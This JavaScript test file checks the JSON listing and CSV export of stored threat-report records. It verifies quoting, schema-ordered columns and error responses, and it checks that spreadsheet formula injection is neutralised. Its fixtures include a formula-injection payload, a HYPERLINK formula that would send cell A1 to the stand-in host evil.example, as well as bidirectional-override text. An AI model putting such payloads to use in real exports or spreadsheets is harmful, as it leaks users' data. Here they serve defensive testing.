// Listing and export of stored records (issue #4): GET /api/<formId>/records (JSON) and
// /api/<formId>/records.csv (RFC 4180, with spreadsheet formula injection neutralised).
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { envelope, parseCsv, post, startReceiver, validThreatReport } from './helpers.mjs';

const HOSTILE = {
  comma: 'He said, "see you after school",\r\nthen left.\nMixed\rline endings',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
  plus: '+44 is how it starts',
  at: '@SUM(1+1)',
  minus: '-2+3',
  tab: '\tTabbed',
  cr: '\rCarriage return first',
  unicode: 'Zoë 👩🏽‍🏫 \u202Eevil\u202C',
  apostrophe: "'already quoted",
};

describe('record listings', () => {
  /** @type {Awaited<ReturnType<typeof startReceiver>>} */
  let rx;
  const sent = [];
  const refs = [];
  before(async () => {
    rx = await startReceiver();
    const first = validThreatReport();
    first.incident.summary = HOSTILE.comma;
    first.keyObservations.other = HOSTILE.formula;
    first.report.receiverName = HOSTILE.plus;
    first.report.reporterName = HOSTILE.at;
    first.incident.subjectProgram = HOSTILE.minus;
    first.casePlan.resolution.plan = HOSTILE.tab;
    first.interventionObservations.notes = HOSTILE.cr;
    first.incident.subjectGrade = HOSTILE.unicode;
    first.incident.locationOther = HOSTILE.apostrophe;
    const second = validThreatReport();
    delete second.interventionObservations;
    second.casePlan.followUps.push({ date: '2026-12-05', status: 'Closed.' });
    for (const data of [first, second]) {
      const body = envelope(data);
      const res = await post(rx.base, body);
      assert.equal(res.status, 201);
      refs.push((await res.json()).reference);
      sent.push(body);
    }
  });
  after(async () => {
    await rx?.close();
  });

  const get = (path) => fetch(`${rx.base}${path}`, { signal: AbortSignal.timeout(10_000) });

  it('lists the stored envelopes as JSON, oldest first, with reference and receivedAt', async () => {
    const res = await get('/api/threat-report/records');
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^application\/json/);
    assert.equal(res.headers.get('cache-control'), 'no-store');
    const list = await res.json();
    assert.equal(list.length, 2);
    list.forEach((item, i) => {
      const { reference, receivedAt, ...rest } = item;
      assert.equal(reference, refs[i]);
      assert.ok(!Number.isNaN(Date.parse(receivedAt)), `receivedAt ${receivedAt}`);
      assert.deepEqual(rest, sent[i]);
    });
    assert.ok(list[0].receivedAt <= list[1].receivedAt);
  });

  it('exports CSV: fixed columns, one column per data leaf in schema order, RFC 4180 quoting', async () => {
    const res = await get('/api/threat-report/records.csv');
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    assert.match(res.headers.get('content-disposition') ?? '', /^attachment; filename="threat-report-records\.csv"$/);
    const text = await res.text();
    assert.ok(text.endsWith('\r\n'));
    const rows = parseCsv(text);
    assert.equal(rows.length, 3, 'a header and one row per record');
    const [header, one, two] = rows;
    for (const row of rows) assert.equal(row.length, header.length, 'every row has every column');
    assert.deepEqual(header.slice(0, 4), ['reference', 'receivedAt', 'submittedAt', 'schemaVersion']);
    assert.deepEqual(one.slice(0, 4).concat(two.slice(0, 4)), [
      refs[0],
      one[1],
      sent[0].submittedAt,
      sent[0].schemaVersion,
      refs[1],
      two[1],
      sent[1].submittedAt,
      sent[1].schemaVersion,
    ]);
    const col = (pointer) => {
      const i = header.indexOf(pointer);
      assert.ok(i >= 4, `column ${pointer}`);
      return i;
    };
    // Schema order, not alphabetical or first-seen: report before incident, follow-up 0 before 1.
    assert.ok(col('/report/reporterName') < col('/report/receiverName'));
    assert.ok(col('/report/receiverName') < col('/incident/subjectName'));
    assert.ok(col('/casePlan/followUps/0/status') < col('/casePlan/followUps/1/date'));
    assert.equal(header.at(-1), '/casePlan/followUps/1/status');
    // A column only the second record has is empty in the first, and the other way round.
    assert.equal(one[col('/casePlan/followUps/1/date')], '');
    assert.equal(two[col('/casePlan/followUps/1/date')], '2026-12-05');
    assert.equal(two[col('/interventionObservations/notes')], '');
    // Comma, quotes and line breaks survive the round trip exactly.
    assert.equal(one[col('/incident/summary')], HOSTILE.comma);
    assert.ok(text.includes('"He said, ""see you after school"",\r\nthen left.'), 'quotes doubled inside a quoted field');
    // Formula injection: a leading apostrophe on text that starts with = + - @ tab CR.
    assert.equal(one[col('/keyObservations/other')], `'${HOSTILE.formula}`);
    assert.equal(one[col('/report/receiverName')], `'${HOSTILE.plus}`);
    assert.equal(one[col('/report/reporterName')], `'${HOSTILE.at}`);
    assert.equal(one[col('/incident/subjectProgram')], `'${HOSTILE.minus}`);
    assert.equal(one[col('/casePlan/resolution/plan')], `'${HOSTILE.tab}`);
    assert.equal(one[col('/interventionObservations/notes')], `'${HOSTILE.cr}`);
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
    // Everything else as it was; numbers as numbers.
    assert.equal(one[col('/incident/subjectGrade')], HOSTILE.unicode);
    assert.equal(one[col('/incident/locationOther')], HOSTILE.apostrophe);
    assert.equal(one[col('/incident/subjectAge')], '14');
    assert.equal(one[col('/priority/change/level')], '3');
    assert.equal(one[col('/incident/homeAddress/postcode')], 'AB1 2CD');
  });

  it('answers 404 for an unknown form; an empty store lists as [] and a header-only CSV', async () => {
    for (const path of ['/api/no-such-form/records', '/api/no-such-form/records.csv', '/api/constructor/records']) {
      const res = await get(path);
      assert.equal(res.status, 404, path);
      assert.match(res.headers.get('content-type') ?? '', /^application\/problem\+json/);
      await res.arrayBuffer();
    }
    const empty = await startReceiver();
    try {
      const csv = await fetch(`${empty.base}/api/threat-report/records.csv`, { signal: AbortSignal.timeout(10_000) });
      assert.equal(await csv.text(), '"reference","receivedAt","submittedAt","schemaVersion"\r\n');
      const json = await fetch(`${empty.base}/api/threat-report/records`, { signal: AbortSignal.timeout(10_000) });
      assert.deepEqual(await json.json(), []);
    } finally {
      await empty.close();
    }
  });

  it('answers 405 with Allow to anything but GET or HEAD on a listing', async () => {
    for (const path of ['/api/threat-report/records', '/api/threat-report/records.csv']) {
      const res = await fetch(`${rx.base}${path}`, { method: 'DELETE', signal: AbortSignal.timeout(10_000) });
      assert.equal(res.status, 405);
      assert.match(res.headers.get('allow') ?? '', /GET/);
      await res.arrayBuffer();
    }
    assert.equal(rx.records.size, 2);
  });

  it('never writes an answer to the log while listing', () => {
    for (const line of rx.logLines) {
      for (const value of ['HYPERLINK', 'see you', 'Zoë']) assert.ok(!line.includes(value), `log line leaks "${value}": ${line}`);
    }
  });
});
